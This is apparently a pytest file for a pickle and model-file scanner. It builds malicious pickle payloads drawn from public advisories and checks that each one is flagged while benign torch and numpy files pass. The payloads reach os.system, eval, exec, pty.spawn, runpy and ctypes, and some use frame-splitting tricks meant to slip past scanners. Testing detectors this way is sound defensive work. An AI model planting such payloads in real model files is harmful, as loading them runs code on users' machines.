        ("torch.utils.bottleneck.__main__.run_cprofile",),
        lambda: stack_call(4, "torch.utils.bottleneck.__main__", "run_cprofile", PAYLOAD, ""),
    ),
    Case(
        "GHSA-4whj-rm5r-c2v8-bytes",
        ("torch.utils.bottleneck.__main__.run_autograd_prof",),
        lambda: stack_call(4, "torch.utils.bottleneck.__main__", "run_autograd_prof", PAYLOAD, ""),
    ),
    Case(
        "GHSA-g38g-8gr9-h9xp-aix-support-bytes",
        ("_aix_support._read_cmd_output",),
        lambda: stack_call(4, "_aix_support", "_read_cmd_output", "id"),
    ),
]

# Committed upstream without a generator; short enough to write out (the bytes as the files hold them).
SYS_MODULE_OVERRIDE = (  # tests/data/sys_module_override_sploit.pkl: BUILD on the module torch._utils
    b"\x80\x04Vtorch._utils\n\x94V_rebuild_tensor\n\x94\x93\x940Vtorch\nV_utils\n\x93\x940h\x03}h\x01Vbuiltins\n"
    b'sb0h\x00h\x01\x93h\x03}h\x01Veval\nsb0h\x00h\x01\x93\x93Vexec("""print("pwned")""")\n\x85R.'
)
PICKLESCAN += [
    Case("sys_module_override_sploit", ("torch._utils",), lambda: SYS_MODULE_OVERRIDE),
    Case(
        "GHSA-46h3-79wf-xr6c",
        ("_operator.attrgetter", "builtins.__import__"),
        lambda: b"cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nattrgetter\n(Vsystem\ntR(g0\ntR(Vecho pwned\ntR.",
    ),
    Case(
        "GHSA-955r-x9j8-7rhh",
        ("_operator.methodcaller", "builtins.__import__"),
        lambda: b"cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nmethodcaller\n(Vsystem\nVecho pwned\ntR(g0\ntR.",
    ),
]

MODELSCAN: list[Case] = [
    Case("malicious12", ("pickle.loads",), _modelscan12),
    Case(
        "malicious13",
        ("builtins.eval.__call__",),
        lambda: pickle.PROTO + b"\x05" + _ucall("builtins", "eval.__call__", '__import__("os").system("x")') + b"R.",
    ),
    Case("malicious14", ("os.system",), lambda: MEMO_CTF + b"\n\n\t\t"),
    Case("malicious10", ("__builtin__.exec",), lambda: b"(S'print(\"Injection running\")'\ni__builtin__\nexec\n."),
    Case("malicious15", ("bdb.Bdb.run",), lambda: reducing(_m15, 4)),
    Case("PickleInject-system", ("posix.system",), lambda: pickle_inject(os.system, ("ls",), {"w": [1.0]})),
    Case("PickleInject-exec", ("builtins.exec",), lambda: pickle_inject(exec, ("print(1)",), {"w": [1.0]})),
    Case("PickleInject-eval", ("builtins.eval",), lambda: pickle_inject(eval, ("print(1)",), {"w": [1.0]})),
    Case("PickleInject-runpy", ("runpy._run_code",), _runpy_inject),
    Case("unsafe_numpy.npy", ("builtins.exec",), _numpy_inject),
]

FICKLING: list[Case] = [
    Case("GHSA-r7v6-mfhq-g3m2-pty", ("pty.spawn",), _fickling_pty_ghsa),
    Case("PR108-pty-OBJ", ("pty.spawn",), lambda: b"(cpty\nspawn\nS'id'\no."),
    Case("GHSA-565g-hwwr-4pp3-marshal", ("marshal.loads", "types.FunctionType"), _fickling_marshal),
    Case(
        "GHSA-wfq2-52f7-7qvj-runpy",
        ("runpy.run_path",),
        lambda: framed(5, 46, stack_call(5, "runpy", "run_path", "/tmp/malicious.py")[2:]),
    ),
    Case(
        "GHSA-p523-jq9w-64x9-cProfile",
        ("cProfile.run",),
        lambda: framed(5, 58, stack_call(5, "cProfile", "run", "print('CPROFILE_RCE_CONFIRMED')")[2:]),
    ),
    Case("GHSA-5hvc-6wx8-mvv4-ctypes", ("builtins.getattr", "ctypes.CDLL"), _fickling_ctypes),
    Case(
        "GHSA-5hvc-6wx8-mvv4-pydoc",
        ("pydoc.locate",),
        lambda: stack_call(5, "pydoc", "locate", "os.system")[:-1] + sbu("id") + b"\x85R.",
    ),
    Case("GHSA-h4rm-mm56-xf63-import", ("builtins.__import__", "builtins.getattr"), _fickling_import_bypass),
    Case("GHSA-mxhj-88fx-4pcv-obj-pop", ("smtplib.SMTP",), _fickling_obj_pop),
    Case("frame-boundary-divergence", ("os.system",), _frame_divergence),
    Case("frame-straddle-GLOBAL-attr", ("os.system",), lambda: framed(5, 7, b"cos\nsystem\n.")),
    Case("frame-straddle-GLOBAL-module", ("macos.system",), lambda: framed(5, 4, b"cmacos\nsystem\n.")),
]

CASES = (
    [pytest.param(c, id=f"picklescan-{c.name}") for c in PICKLESCAN]
    + [pytest.param(c, id=f"modelscan-{c.name}") for c in MODELSCAN]
    + [pytest.param(c, id=f"fickling-{c.name}") for c in FICKLING]
)


def scan_json(path: Path) -> tuple[int, dict[str, Any]]:
    r = run_cli("scan", "--json", str(path), env={"COLUMNS": "200"})
    return r.code, json.loads(r.stdout)


def named(doc: dict[str, Any]) -> set[str]:
    return {f["target"] for file in doc["files"] for f in file["findings"]}


@pytest.mark.parametrize("case", CASES)
def test_exploit_exits_1_naming_the_global(tmp_path: Path, case: Case) -> None:
    data = case.build()
    reached = cpython_globals(case.oracle(data))
    assert set(case.expected) <= reached, f"CPython reaches {sorted(reached)}"
    kept = {"zip", "npy", "pt", "pickle", "bin"}  # the upstream file name where it has its own suffix
    path = tmp_path / (case.name if case.name.rsplit(".", 1)[-1] in kept else f"{case.name}.pkl")
    path.write_bytes(data)
    code, doc = scan_json(path)
    assert (code, sorted(set(case.expected) - named(doc))) == (1, []), doc


def _benign() -> list[Any]:
    torch = pytest.importorskip("torch")
    np = pytest.importorskip("numpy")
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 1))

    def tsave(legacy: bool) -> Callable[[Path], None]:
        return lambda p: torch.save(model.state_dict(), p, _use_new_zipfile_serialization=not legacy)

    def dump(obj: Any, protocol: int) -> Callable[[Path], None]:
        return lambda p: p.write_bytes(pickle.dumps(obj, protocol=protocol))

    ints = np.array([[1, 2], [3, 4]])
    cases: list[tuple[str, str, Callable[[Path], None]]] = [
        *((f"picklescan-benign0_v{v}", "x.pkl", dump(["a", "b", "c"], v)) for v in (0, 3, 4)),
        ("picklescan-int_array.npy", "x.npy", lambda p: np.save(p, ints)),
        ("picklescan-int_arrays.npz", "x.npz", lambda p: np.savez(p, a=np.arange(3), b=np.arange(3, 6))),
        ("picklescan-int_arrays_compressed.npz", "x.npz", lambda p: np.savez_compressed(p, a=np.arange(3))),
        ("modelscan-safe_zip_pytorch.pt", "x.pt", tsave(legacy=False)),
        ("modelscan-safe_old_format_pytorch.pt", "x.pt", tsave(legacy=True)),
        ("modelscan-safe_numpy.npy", "x.npy", lambda p: np.save(p, [[1, 2, 3], [4, 5, 6]])),
    ]
    frames = {
        "small list": [1, 2, 3, 4],
        "large unframed bytes": b"x" * 100000,
        "interleaved": [1, b"y" * 100000, 2],
        "several frames": list(range(20000)),
        "nested": {"a": [1, 2, {"b": (3, 4)}], "c": [5, 6]},
    }
    cases += [(f"fickling-frames-{k}-p{v}", "x.pkl", dump(obj, v)) for k, obj in frames.items() for v in (2, 4, 5)]
    return [pytest.param(w, n, id=i) for i, n, w in cases]


@pytest.mark.parametrize(("write", "name"), _benign())
def test_benign_file_exits_0(tmp_path: Path, write: Callable[[Path], None], name: str) -> None:
    path = tmp_path / name
    write(path)
    code, doc = scan_json(path)
    assert code == 0, doc


def test_numpy_object_arrays_name_only_numpy(tmp_path: Path) -> None:
    """picklescan's object_array.npy / object_arrays*.npz: `mi` reports numpy's own array rebuilders (they are
    not a checkpoint's, so exit 1 by policy, as tests/test_scan_gate.py holds) and nothing outside numpy."""
    np = pytest.importorskip("numpy")
    x = np.empty((2, 2), dtype=object)
    x[:] = [(1, 2), (3, 4)]
    np.save(tmp_path / "object_array.npy", x)
    objs = {"a": np.array([0, 1, 2], dtype=object), "b": np.array([3, 4, 5], dtype=object)}
    np.savez(tmp_path / "object_arrays.npz", **objs)
    np.savez_compressed(tmp_path / "object_arrays_compressed.npz", **objs)
    for name in ("object_array.npy", "object_arrays.npz", "object_arrays_compressed.npz"):
        code, doc = scan_json(tmp_path / name)
        targets = named(doc)
        assert code == 1 and targets and all(t.startswith("numpy.") for t in targets), (name, doc)
